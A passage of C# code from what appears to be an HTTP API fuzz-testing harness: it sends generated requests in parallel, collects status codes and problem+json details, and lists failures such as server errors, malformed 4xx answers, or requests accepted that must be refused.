        var outcomes = new System.Collections.Concurrent.ConcurrentBag<FuzzOutcome>();
        await Parallel.ForEachAsync(requests, new ParallelOptions { MaxDegreeOfParallelism = parallelism }, async (request, ct) =>
        {
            try
            {
                using var message = request.ToMessage();
                using var response = await http.SendAsync(message, HttpCompletionOption.ResponseHeadersRead, ct);
                var mediaType = response.Content.Headers.ContentType?.MediaType;
                if (mediaType == "text/event-stream")
                {
                    // A live stream that was allowed: its headers are the answer.
                    outcomes.Add(new FuzzOutcome(request, (int)response.StatusCode, mediaType, null, null));
                    return;
                }

                var text = await response.Content.ReadAsStringAsync(ct);
                string? detail = null;
                if (mediaType == "application/problem+json")
                {
                    try
                    {
                        detail = JsonNode.Parse(text)?["detail"]?.GetValue<string>();
                    }
                    catch (JsonException)
                    {
                        detail = null;
                    }
                }

                outcomes.Add(new FuzzOutcome(request, (int)response.StatusCode, mediaType, detail, null));
            }
            catch (HttpRequestException ex)
            {
                outcomes.Add(new FuzzOutcome(request, 0, null, null, ex.Message));
            }
        });
        return [.. outcomes.OrderBy(o => o.Request.Number)];
    }

    /// <summary>
    /// Everything wrong with the answers: a 5xx; a 4xx that is not problem+json with a detail; a
    /// state-changing request that was accepted; no answer at all (allowed only for a body over the
    /// limit, which the server may cut off before the client has sent it).
    /// </summary>
    public static IReadOnlyList<string> Failures(IReadOnlyList<FuzzOutcome> outcomes, int seed)
    {
        var failures = new List<string>();
        foreach (var o in outcomes)
        {
            var why = o switch
            {
                { Error: not null } when o.Request.Body is { Length: > 65_536 } => null,
                { Error: not null } => $"no answer ({o.Error})",
                { Status: >= 500 } => $"a server error {o.Status}",
                { Status: >= 400 and < 500, MediaType: not "application/problem+json" } => $"{o.Status} as {o.MediaType ?? "no content type"}, not problem+json",
                { Status: >= 400 and < 500 } when string.IsNullOrWhiteSpace(o.Detail) => $"{o.Status} problem without a detail",
                { Status: < 400 } when o.Request.MustRefuse => $"accepted ({o.Status}) though it must be refused",
                _ => null,
            };
            if (why is not null)
            {
                failures.Add($"seed {seed}, {o.Request}: {why}; detail: {o.Detail}");
            }
        }

        return failures;
    }
}
